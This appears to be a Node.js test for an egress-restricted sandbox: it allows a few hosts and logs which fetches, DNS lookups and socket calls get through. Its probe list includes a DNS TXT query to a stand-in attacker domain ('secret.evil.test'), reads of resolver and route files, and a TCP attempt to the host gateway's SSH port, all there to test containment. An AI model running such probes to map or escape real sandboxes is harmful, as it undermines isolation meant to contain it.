import assert from 'node:assert/strict';
import { before, test } from 'node:test';
import { beginEgress, buildEgressImage, makeInternet, openWay } from '../../support/egress.ts';

before(buildEgressImage);

const api = `require('http').createServer((q, s) => s.end('api ' + q.headers.host)).listen(80, () => console.log('ready'))`;

test('first', async (t) => {
  beginEgress(t);
  const internet = await makeInternet(t);
  await internet.host(['api.example.test', 'other.example.test'], api);
  const from = performance.now();
  const { server, contacts, egress } = await openWay(t, { internet, hosts: ['api.example.test:80', '*.wild.test:443'] });
  t.diagnostic(`${Math.round(performance.now() - from)} ms`);
  console.log(egress.network);
  for (const code of [
    `return (await fetch('http://api.example.test/')).text()`,
    `return (await fetch('http://other.example.test/')).text()`,
    `return dns.lookup('x.wild.test')`,
    `return dns.resolve4('x.wild.test')`,
    `return dns.resolve4('api.example.test')`,
    `return dns.resolve6('x.wild.test')`,
    `return dns.resolveTxt('x.wild.test')`,
    `return dns.resolveTxt('secret.evil.test')`,
    `return fs.readFileSync('/etc/resolv.conf','utf8')`,
    `return os.networkInterfaces()`,
    `return fs.readFileSync('/proc/net/route','utf8')`,
    `return tcp('172.17.0.1', 22)`,
  ]) {
    console.log(code, await server.run(code).catch((error: unknown) => String(error)));
  }
  console.log(contacts);
});
